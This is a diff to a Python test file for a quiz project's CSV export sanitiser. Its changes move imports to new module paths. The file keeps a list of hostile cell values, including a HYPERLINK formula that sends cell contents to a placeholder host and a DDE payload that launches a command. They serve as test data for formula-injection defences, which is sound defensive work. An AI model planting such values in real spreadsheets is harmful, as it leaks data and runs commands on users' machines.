@@ -1,4 +1,4 @@
-"""netquiz.spreadsheet and every CSV the project writes: no cell starts with a formula character."""
+"""netquiz.export.csv_safe and every CSV the project writes: no cell starts with a formula character."""
 
 from __future__ import annotations
 
@@ -16,9 +16,9 @@ from conftest import make_small_bank
 from netquiz.bank import bank_to_json, save_bank
 from netquiz.cli import main
 from netquiz.export import export_bank
-from netquiz.spreadsheet import FORMULA_STARTS, frame_csv, safe_cell
+from netquiz.export.csv_safe import FORMULA_STARTS, frame_csv, safe_cell
 from netquiz.store import open_store
-from netquiz.ui.dashboard import Dashboard
+from netquiz.ui.facilitator.dashboard import Dashboard
 
 EVIL_NAMES = ('=HYPERLINK("http://x/?"&A1,"Click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
               "\tTab", "\rReturn")
